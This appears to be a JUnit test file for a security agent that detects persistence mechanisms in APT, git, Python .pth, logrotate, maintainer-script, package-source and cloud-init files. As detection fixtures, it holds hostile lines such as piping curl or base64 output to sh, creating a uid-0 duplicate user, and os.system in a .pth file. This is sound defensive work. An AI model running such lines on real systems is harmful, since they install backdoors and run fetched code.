package bzh.vigie.agent.persistence.format;

import static bzh.vigie.agent.persistence.format.FormatsTest.file;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.persistence.format.hook.AptConf;
import bzh.vigie.agent.persistence.format.hook.CloudConfig;
import bzh.vigie.agent.persistence.format.hook.GitFile;
import bzh.vigie.agent.persistence.format.hook.Logrotate;
import bzh.vigie.agent.persistence.format.hook.MaintainerScript;
import bzh.vigie.agent.persistence.format.hook.PackageSources;
import bzh.vigie.agent.persistence.format.hook.PythonStartup;
import bzh.vigie.event.Item.Trait;
import java.util.List;
import org.junit.jupiter.api.Test;

class HookFormatsTest {
    @Test
    void anOptionOfAptIsNamedInFullHoweverItIsWritten() {
        for (String text : List.of(
                "DPkg::Post-Invoke {\"x\";};",
                "DPkg { Post-Invoke { \"x\"; }; };",
                "DPkg::Post-Invoke:: \"x\";",
                "// c\nDPkg {\n  Post-Invoke:: \"x\"; # d\n};")) {
            Parsed parsed = new AptConf().parse(file("99x", text));
            assertEquals(0, parsed.malformed(), text);
            assertEquals(List.of("DPkg::Post-Invoke x"), namesAndValues(parsed), text);
        }
        assertEquals(List.of(), namesAndValues(new AptConf().parse(file("a", "/* DPkg::Post-Invoke {\"x\";}; */"))));
        assertEquals(
                1, new AptConf().parse(file("a", "DPkg::Post-Invoke {\"x\";")).malformed());
    }

    @Test
    void aProxyOfAptIsToldWithoutItsPassword() {
        assertEquals(
                List.of("Acquire::http::Proxy http://…@p:1"),
                namesAndValues(new AptConf().parse(file("p", "Acquire::http::Proxy \"http://u:secret@p:1\";"))));
    }

    @Test
    void aSettingOfGitThatRunsIsAnItemAndAnAliasOfGitsOwnIsNot() {
        Parsed parsed = new GitFile()
                .parse(
                        file(
                                "gitconfig",
                                "[alias]\n st = status\n up = \"!sh -c 'x'\"\n[core] pager = less ; c\n fsmonitor = true\n[core]\nfsmonitor=/x\n"));
        assertEquals(List.of("alias.up !sh -c 'x'", "core.pager less", "core.fsmonitor /x"), namesAndValues(parsed));
    }

    @Test
    void aSampleHookIsNoItemAndAHookIsOne() {
        assertEquals(
                List.of(),
                new GitFile().parse(file("hooks/a.sample", "#!/bin/sh\nx\n")).drafts());
        assertEquals(
                1,
                new GitFile()
                        .parse(file("hooks/post-merge", "#!/bin/sh\n[ -x /a ] && /a\n"))
                        .drafts()
                        .size());
    }

    @Test
    void includesOfGitFollowItsHomeAndItsDirectory() {
        Parsed parsed = new GitFile().parse(file("x/gitconfig", "[include]\npath = more\n[core]\nhooksPath = /h\n"));
        assertEquals(
                List.of("/etc/x/more", "/h/*"),
                parsed.includes().stream().map(Parsed.Include::path).toList());
    }

    @Test
    void onlyLinesOfAPthThatRunAreItems() {
        Parsed parsed =
                new PythonStartup().parse(file("a.pth", "./rel\nimport x\n# import y\nimport os; os.system('z')\n"));
        assertEquals(
                List.of("a.pth import import x", "a.pth import import os; os.system('z')"), namesAndValues(parsed));
        assertFalse(parsed.drafts().getFirst().traits().contains(Trait.INLINE_SCRIPT));
        assertTrue(parsed.drafts().getLast().traits().contains(Trait.INLINE_SCRIPT));
    }

    @Test
    void aScriptOfARotationEndsAtEndscript() {
        Parsed parsed =
                new Logrotate().parse(file("a", "/var/log/a {\n postrotate\n  one\n  two\n endscript\n rotate 3\n}\n"));
        assertEquals(List.of("postrotate /var/log/a one\ntwo"), namesAndValues(parsed));
    }

    @Test
    void aMaintainerScriptThatOnlyTalksOfAnAddressIsNoItem() {
        MaintainerScript format = new MaintainerScript();
        assertEquals(
                List.of(),
                format.parse(file("a.postinst", "echo \"see https://x\"\n# curl x\n"))
                        .drafts());
        assertEquals(
                List.of("a.postinst curl -s https://x | sh"),
                namesAndValues(format.parse(file("a.postinst", "set -e\ncurl -s https://x | sh\n"))));
    }

    @Test
    void aMaintainerScriptThatMovesAHomeOrLooksAtACertificateIsNoItem() {
        MaintainerScript format = new MaintainerScript();
        for (String line : List.of(
                "usermod --home=/run/daemon daemon || true",
                "if openssl x509 -in \"$c\" -noout -checkend 0 >/dev/null 2>&1; then",
                "base64 -d \"$f\" 2> /dev/null || exit 1")) {
            assertEquals(
                    List.of(), format.parse(file("a.postinst", line + "\n")).drafts(), line);
        }
        for (String line : List.of(
                "useradd -ou 0 daemon",
                "usermod --home=/root -o -u 0 daemon",
                "useradd --non-unique --uid 0 daemon",
                "base64 -d x 2>/dev/null | sh",
                "openssl enc -d -in x > /usr/bin/y")) {
            assertEquals(
                    1, format.parse(file("a.postinst", line + "\n")).drafts().size(), line);
        }
    }

    @Test
    void aStanzaOfASourceThatIsOffIsNotEnabledAndItsKeyIsADigest() {
        Parsed parsed = PackageSources.apt()
                .parse(
                        file(
                                "a.sources",
                                "Types: deb\nURIs: https://u:p@x/\nSuites: s\nEnabled: no\nSigned-By:\n -----BEGIN PGP PUBLIC KEY BLOCK-----\n mQ\n"));
        Draft draft = parsed.drafts().getFirst();
        assertFalse(draft.enabled());
        assertEquals("deb https://…@x/ s", draft.name());
        assertTrue(draft.value().contains("signed-by=digest="), draft.value());
        assertFalse(draft.value().contains("mQ"));
    }

    @Test
    void secretsOfCloudInitAreNotTold() {
        Parsed parsed =
                new CloudConfig().parse(file("a.cfg", "password: hunter2\nusers:\n- name: a\n  passwd: $6$x\n"));
        assertEquals(3, parsed.drafts().size());
        assertTrue(parsed.drafts().stream()
                .noneMatch(d -> d.value().contains("hunter2") || d.value().contains("$6$")));
    }

    static List<String> namesAndValues(Parsed parsed) {
        return parsed.drafts().stream().map(d -> d.name() + " " + d.value()).toList();
    }
}
